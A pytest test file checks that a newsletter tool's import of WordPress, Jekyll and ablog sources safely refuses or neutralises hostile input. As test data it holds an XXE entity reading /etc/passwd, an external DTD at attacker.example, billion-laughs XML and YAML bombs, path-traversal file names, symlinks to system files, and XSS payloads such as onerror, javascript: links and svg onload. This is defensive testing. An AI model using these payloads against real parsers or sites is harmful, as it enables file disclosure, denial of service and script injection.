"""Hostile exports and site folders: ``newsletter import`` refuses what it cannot read safely with a
clear message (never a traceback), never writes outside ``reports/`` and ``feedback/`` nor through a
link, never fetches anything, never runs the source's code, and keeps honest text as text."""

from __future__ import annotations

import os
import re
import socket
from pathlib import Path

import pytest
import yaml
from conftest import REPO, copy_sample_site, run

from sphinx_newsletter import cli
from sphinx_newsletter.importing import wordpress
from sphinx_newsletter.importing.markup import Conversion, html_to_markdown
from sphinx_newsletter.importing.model import SourceError

DATA = REPO / "tests" / "data" / "import"
HEAD = """<?xml version="1.0" encoding="UTF-8" ?>
{doctype}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.2/"
 xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"><channel><title>T</title>
<link>https://blog.example</link><wp:wxr_version>1.2</wp:wxr_version>
{items}</channel></rss>"""


def export(tmp_path: Path, items: str = "", doctype: str = "", name: str = "export.xml") -> Path:
    path = tmp_path / name
    path.write_text(HEAD.format(items=items, doctype=doctype), encoding="utf-8")
    return path


def item(title="A post", content="Text.", name="a-post", date="2012-06-01 10:00:00", comments="", post_id="1"):
    return (f"<item><title>{title}</title><link>https://blog.example/{post_id}/</link><dc:creator>ed</dc:creator>"
            f"<content:encoded><![CDATA[{content}]]></content:encoded><wp:post_id>{post_id}</wp:post_id>"
            f"<wp:post_date>{date}</wp:post_date><wp:post_name>{name}</wp:post_name><wp:status>publish</wp:status>"
            f"<wp:post_type>post</wp:post_type>{comments}</item>")


def comment(key, parent="0", body="Hello.", author="Reader", date="2012-06-02 10:00:00"):
    return (f"<wp:comment><wp:comment_id>{key}</wp:comment_id><wp:comment_author>{author}</wp:comment_author>"
            f"<wp:comment_date>{date}</wp:comment_date><wp:comment_content><![CDATA[{body}]]>"
            f"</wp:comment_content><wp:comment_approved>1</wp:comment_approved>"
            f"<wp:comment_parent>{parent}</wp:comment_parent></wp:comment>")


@pytest.fixture
def site(tmp_path) -> Path:
    return copy_sample_site(tmp_path / "site")


def outside_files(site: Path) -> set[str]:
    return {path.relative_to(site.parent).as_posix() for path in site.parent.rglob("*") if path.is_file()}


BILLION_LAUGHS = """<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
"""
EXTERNAL = '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'


@pytest.mark.parametrize("doctype, content", [(BILLION_LAUGHS, "&d;"), (EXTERNAL, "&secret;"),
                                               ('<!DOCTYPE rss SYSTEM "http://attacker.example/x.dtd">\n', "x")])
def test_entities_and_dtds_are_refused(site, tmp_path, doctype, content):
    path = export(tmp_path, f"<item><title>{content}</title></item>", doctype)
    result = run("import", "wordpress", str(path), cwd=site)
    assert result.returncode == 1
    assert "refused: the export declares a DTD or entities" in result.stderr
    assert "Traceback" not in result.stderr and "root:" not in result.stdout + result.stderr


@pytest.mark.parametrize("text, message", [
    ("<rss><channel><item>", "not well-formed XML"),
    ("<html><body>hi</body></html>", "not a WordPress export (WXR): its root is not <rss><channel>"),
    ('<rss version="2.0"><channel><title>A feed</title></channel></rss>', "it has no <wp:wxr_version>"),
    ("", "not well-formed XML")])
def test_what_is_not_an_export_is_named(site, tmp_path, text, message):
    path = tmp_path / "not.xml"
    path.write_text(text, encoding="utf-8")
    result = run("import", "wordpress", str(path), cwd=site)
    assert result.returncode == 1 and message in result.stderr and "Traceback" not in result.stderr


def test_an_export_that_is_a_link_or_too_large_is_refused(site, tmp_path, monkeypatch):
    target = export(tmp_path, item())
    link = tmp_path / "link.xml"
    link.symlink_to(target)
    result = run("import", "wordpress", str(link), cwd=site)
    assert result.returncode == 1 and "a symbolic link is not followed" in result.stderr
    monkeypatch.setattr(wordpress, "MAX_EXPORT_BYTES", 100)
    with pytest.raises(SourceError, match=r"over 0 KiB|over 100"):
        wordpress.read_wordpress(target)


def test_hostile_names_stay_inside_the_cycle_folder(site, tmp_path):
    items = (item(title="../../../etc/passwd", name="..%2F..%2F..%2Fetc%2Fpasswd", post_id="1")
             + item(title="/absolute", name="/tmp/evil", post_id="2")
             + item(title="CON", name=".git", post_id="3"))
    path = export(tmp_path, items)
    before = outside_files(site)
    result = run("import", "wordpress", str(path), cwd=site)
    assert result.returncode == 0, result.stderr
    added = {path for path in outside_files(site) - before if not path.startswith("site/imported/")}  # the ledger
    assert added and all(path.startswith("site/reports/folsom/") and path.count("/") == 3 for path in added), added
    assert not any(Path(path).name.startswith(".") for path in added)


def test_links_in_the_site_are_never_written_through(site, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (site / "reports/folsom/a-post.md").symlink_to(outside / "report.md")
    (site / "feedback/folsom").mkdir(parents=True, exist_ok=True)
    (site / "feedback/folsom/a-post-2.yaml").symlink_to(outside / "feedback.yaml")
    result = run("import", "wordpress", str(export(tmp_path, item(comments=comment(5)))), cwd=site)
    assert result.returncode == 0, result.stderr
    assert list(outside.iterdir()) == []
    assert (site / "reports/folsom/a-post-2.md").is_file()  # the linked name is taken: another name is chosen
    assert ("  feedback/folsom/a-post-2.yaml: not merged, the file cannot be read (a symbolic link is not followed: "
            "put the file itself in the repository)") in result.stdout.splitlines()


def test_a_linked_feedback_folder_is_refused(site, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (site / "feedback").rename(tmp_path / "old-feedback")
    (site / "feedback").symlink_to(outside)
    result = run("import", "wordpress", str(export(tmp_path, item(comments=comment(5)))), cwd=site)
    assert list(outside.iterdir()) == []
    assert "not written: it is not inside feedback/" in result.stdout
    assert "Traceback" not in result.stderr


def test_hostile_html_becomes_safe_markdown_without_losing_text():
    conversion = Conversion(base_url="https://blog.example/")
    hostile = ('<p>Intro <img src=x onerror="alert(1)"> <a href="javascript:alert(2)">click</a> '
               '<a href="data:text/html,<script>alert(3)</script>">data</a> <a href="vbscript:x">vb</a></p>'
               '<pre>```\n```{raw} html\n<script>alert(4)</script>\n```</pre>'
               '<p>{eval-rst} and :::{raw} html and $x$ and <!-- hidden --> and &lt;script&gt;</p>'
               '<script>alert(5)</script><style>body{}</style>'
               '<p>:name: value</p><h1>Heading</h1>')
    markdown = html_to_markdown(hostile, conversion)
    assert "onerror" not in markdown and "javascript:" not in markdown and "vbscript" not in markdown
    assert "data:" not in markdown and "alert(5)" not in markdown
    assert "Intro" in markdown and "click" in markdown and "data" in markdown and "vb" in markdown
    assert re.search(r"^````\n```\n```\{raw\} html\n.*^````$", markdown, flags=re.MULTILINE | re.DOTALL)
    # the fence is longer than any inside it: the code cannot close it and start a directive
    assert "\\{eval-rst\\}" in markdown and "\\:::\\{raw\\}" in markdown and "\\$x\\$" in markdown
    assert "\\<script\\>" in markdown  # text that looks like a tag stays text
    assert "\\:name: value" in markdown and "## Heading" in markdown
    assert any("javascript:" in note for note in conversion.notes)


def test_deep_html_and_many_comments_are_bounded(site, tmp_path):
    deep = "<div>" * 5_000 + "deep text" + "</div>" * 5_000
    many = "".join(comment(1000 + number) for number in range(5_010))
    items = item(content=deep, post_id="1", name="deep") + item(comments=many, post_id="2", name="busy")
    result = run("import", "wordpress", str(export(tmp_path, items)), cwd=site)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    assert "deep text" in (site / "reports/folsom/deep.md").read_text(encoding="utf-8")
    assert "HTML nested more than 200 deep is imported as plain text" in result.stdout
    assert "5,010 comments: the first 5,000 are imported" in result.stdout
    assert (site / "feedback/folsom/busy.yaml").read_text(encoding="utf-8").count("- id: wp-") == 5_000


def test_comment_loops_and_unknown_parents_do_not_hang(site, tmp_path):
    comments = comment(1, parent="2") + comment(2, parent="1") + comment(3, parent="999")
    result = run("import", "wordpress", str(export(tmp_path, item(comments=comments))), cwd=site)
    assert result.returncode == 0, result.stderr
    text = (site / "feedback/folsom/a-post.yaml").read_text(encoding="utf-8")
    assert all(f"id: wp-{key}" in text for key in (1, 2, 3))
    assert run("check", "--strict", cwd=site).returncode == 0


def test_control_characters_and_markup_in_titles_and_names(site, tmp_path):
    items = item(title="Fine &lt;script&gt;alert(1)&lt;/script&gt; \u202eevil\u202c",
                 comments=comment(1, author="Mal\u202elory <b>x</b>"))
    result = run("import", "wordpress", str(export(tmp_path, items)), cwd=site)
    assert result.returncode == 0
    report = (site / "reports/folsom/a-post.md").read_text(encoding="utf-8")
    assert "\u202e" not in report and "'title': invisible control characters removed" in result.stdout
    assert "Fine <script>alert(1)</script> evil" in report  # the title's text, kept as text
    assert "\u202e" not in (site / "feedback/folsom/a-post.yaml").read_text(encoding="utf-8")
    assert run("check", "--strict", cwd=site).returncode == 0


def test_nothing_is_fetched_over_the_network(site, monkeypatch, capsys, in_process):
    """The site's Sphinx reads the imported reports; sphinx-sitemap talks to a local process over a Unix
    socket, which is no network."""
    local = socket.socket.connect

    def refuse(*args, **kwargs):
        raise AssertionError("the import opened a network connection")

    def connect(self, address):
        return local(self, address) if self.family == socket.AF_UNIX else refuse()

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.chdir(site)
    for kind, source in (("wordpress", DATA / "wordpress.xml"), ("jekyll", DATA / "jekyll")):
        assert cli.main(["import", kind, str(source)]) == 0
    out = capsys.readouterr().out
    assert "Remote images, linked and not downloaded (1):\n  https://travel.stackers.example/wp-content" in out


def test_the_ablog_sites_conf_py_is_never_run(site, tmp_path):
    marker = Path("/tmp/ablog-conf-was-run")
    if marker.exists():
        marker.unlink()
    assert run("import", "ablog", str(DATA / "ablog"), cwd=site).returncode == 0
    assert not marker.exists()


def test_hostile_static_site_files(site, tmp_path):
    blog = tmp_path / "blog"
    (blog / "_posts").mkdir(parents=True)
    (blog / "_config.yml").write_text("url: javascript:alert(1)\n", encoding="utf-8")
    (blog / "_posts/2012-06-01-link.md").symlink_to("/etc/passwd")
    levels = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"] + [
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    (blog / "_posts/2012-06-02-bomb.md").write_text(  # honest blogs use anchors; a billion laughs is never walked
        "---\n" + "\n".join(levels) + "\ntitle: Laughs\nauthor: *a8\ntags: *a8\n---\nbody\n", encoding="utf-8")
    (blog / "_posts/2012-06-03-deep.md").write_text("+++\na = " + "[" * 2000 + "]" * 2000 + "\n+++\nbody\n",
                                                    encoding="utf-8")
    (blog / "_posts/2012-06-04-binary.md").write_bytes(b"---\ntitle: \xff\xfe\n---\n")
    (blog / "_posts/2012-06-05-fine.md").write_text(
        "---\ntitle: Fine\nauthor: Ed\n---\nA [relative link](/about/) and ![an image](/x.png).\n", encoding="utf-8")
    (blog / "staticman.yml").write_text("comments:\n  path: ../../../etc/{options.slug}\n", encoding="utf-8")
    comments = blog / "_data/comments/fine"
    comments.mkdir(parents=True)
    (comments / "c1.yml").write_text("name: R\nmessage: ok\ndate: 2012-06-06\n", encoding="utf-8")
    (comments / "huge.yml").write_text("name: R\nmessage: " + "x" * 300_000 + "\ndate: 2012-06-06\n",
                                       encoding="utf-8")
    result = run("import", "jekyll", str(blog), cwd=site)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert "_posts/2012-06-01-link.md: not read: a symbolic link is not followed" in result.stdout
    laughs = (site / "reports/folsom/bomb.md").read_text(encoding="utf-8")
    assert "title: Laughs" in laughs and "tags: []" in laughs and "lol" not in laughs
    assert "_posts/2012-06-03-deep.md: its front matter cannot be read" in result.stdout
    assert "_posts/2012-06-04-binary.md: not UTF-8 text" in result.stdout
    fine = (site / "reports/folsom/fine.md").read_text(encoding="utf-8")
    assert "A relative link and [image: an image]." in fine  # no address to resolve them against
    assert "comment file _data/comments/fine/huge.yml not read: over 256 KiB" in result.stdout
    assert "- id: sm-c1" in (site / "feedback/folsom/fine.yaml").read_text(encoding="utf-8")
    assert not os.path.exists(site / "etc")
    assert run("check", "--strict", cwd=site).returncode == 0


def test_comments_older_than_their_post_are_dated_on_its_day(site, tmp_path):
    comments = comment(1, date="2012-05-01 10:00:00") + comment(2, parent="1", date="2012-05-02 10:00:00")
    result = run("import", "wordpress", str(export(tmp_path, item(comments=comments))), cwd=site)
    assert "comment 1 is dated 2012-05-01, before the post: it is dated 2012-06-01" in result.stdout
    text = (site / "feedback/folsom/a-post.yaml").read_text(encoding="utf-8")
    assert text.count("date: 2012-06-01") == 2 and "&" not in text and "*id" not in text  # no YAML anchors
    assert run("check", "--strict", cwd=site).returncode == 0


def test_the_same_post_twice_in_one_export_is_written_once(site, tmp_path):
    items = item(title="Twice", name="twice", post_id="7") + item(title="Twice again", name="again", post_id="7")
    result = run("import", "wordpress", str(export(tmp_path, items)), cwd=site)
    assert result.returncode == 0
    assert "item 2 (Twice again): the same post as item 1 (Twice)" in result.stdout
    assert (site / "reports/folsom/twice.md").is_file() and not (site / "reports/folsom/again.md").exists()


def test_threads_deeper_than_shown_are_placed_at_the_deepest_level(site, tmp_path):
    comments = comment(1) + "".join(comment(number, parent=str(number - 1)) for number in range(2, 13))
    result = run("import", "wordpress", str(export(tmp_path, item(comments=comments))), cwd=site)
    assert "replies nested more than 8 deep are placed at the 8th level" in result.stdout
    entries = yaml.safe_load((site / "feedback/folsom/a-post.yaml").read_text(encoding="utf-8"))
    depth, level = 1, entries[0]
    while level.get("replies"):
        depth, level = depth + 1, level["replies"][0]
    assert depth == 8
    assert run("check", "--strict", cwd=site).returncode == 0


def test_rules_and_line_breaks_as_docutils_and_code_take_them():
    markdown = html_to_markdown("<hr><p>a</p><hr><hr/><p>b<code>x<br>y</code></p><h2>H</h2><hr><p>c</p><hr>",
                                Conversion())
    assert markdown == "a\n\n---\n\nb`x\ny`\n\n## H\n\nc\n"


def test_imported_comments_are_written_as_literal_blocks(site, tmp_path):
    poem = "<pre>Two roads diverged   \n  in a yellow wood,   </pre><p>Line one<br>line two</p>"
    result = run("import", "wordpress", str(export(tmp_path, item(comments=comment(1, body=poem)))), cwd=site)
    assert result.returncode == 0
    text = (site / "feedback/folsom/a-post.yaml").read_text(encoding="utf-8")
    assert "  body: |\n" in text and "Two roads diverged\n" in text and "Line one\\\n" in text
    assert run("check", "--strict", cwd=site).returncode == 0


def test_a_pipe_in_the_site_does_not_stop_the_import(site):
    """The import reads the reports it would write in a scratch copy of the site: a named pipe there is
    left out of the copy (copying it would wait for a writer forever)."""
    import subprocess

    from conftest import NEWSLETTER

    os.mkfifo(site / "notes.fifo")
    os.mkfifo(site / "reports" / "waiting")
    result = subprocess.run([NEWSLETTER, "import", "wordpress", str(DATA / "wordpress.xml"), "--dry-run"], cwd=site,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "report(s)" in result.stdout


@pytest.mark.parametrize("notebook", [
    '{"cells": {"a": 1}, "metadata": {}}', '{"cells": [], "metadata": []}', "[1, 2, 3]", '"cells"',
    '{"cells": [{"cell_type": "markdown", "source": {"x": 1}}], "metadata": {"date": ["2012-01-01"]}}',
    '{"cells": [{"cell_type": "code", "source": 7, "outputs": "text"}], "metadata": {"title": {"a": 1}}}',
    '{"cells": [{"cell_type": "code", "source": "x", "outputs": [{"output_type": "display_data", "data": '
    '{"image/png": {"a": 1}, "text/plain": 5}}, 3, {"output_type": "stream", "text": {"a": 1}}]}], "metadata": {}}',
    '{"cells": [{"cell_type": "code", "source": "x", "outputs": [{"data": {"image/png": "%%%not base64%%%"}}]}], '
    '"metadata": {"date": "2012-01-01", "kernelspec": {"language": ["python"]}}}',
    '{"cells": ' + "[" * 5000 + "]" * 5000 + ', "metadata": {}}',
])
def test_a_hostile_notebook_is_refused_or_read_but_never_stops_the_import(notebook):
    from sphinx_newsletter.importing.ablog import notebook_text

    notes: list[str] = []
    outputs: dict[str, bytes] = {}
    try:
        text = notebook_text(notebook, notes, outputs)
    except ValueError:
        return
    assert isinstance(text, str) and all(isinstance(data, bytes) for data in outputs.values())


def test_a_notebook_output_that_is_not_the_picture_it_claims_is_left_out_and_named():
    import base64

    from sphinx_newsletter.importing.ablog import notebook_text

    png = base64.b64encode(bytes.fromhex("89504e470d0a1a0a") + b"rest").decode()
    cells = [{"cell_type": "code", "source": "x", "outputs": [
        {"output_type": "display_data", "data": {"image/png": "%%%not base64%%%"}},
        {"output_type": "display_data", "data": {"image/png": base64.b64encode(b"<svg onload=alert(1)>").decode()}},
        {"output_type": "display_data", "data": {"image/png": png[:20] + "\n" + png[20:]}}]}]
    notes: list[str] = []
    outputs: dict[str, bytes] = {}
    text = notebook_text(__import__("json").dumps({"cells": cells, "metadata": {}}), notes, outputs)
    assert list(outputs.values()) == [bytes.fromhex("89504e470d0a1a0a") + b"rest"]  # line breaks in base64 are read
    assert notes.count("an image/png output is not imported: it is not a PNG picture") == 2
    assert "svg" not in text
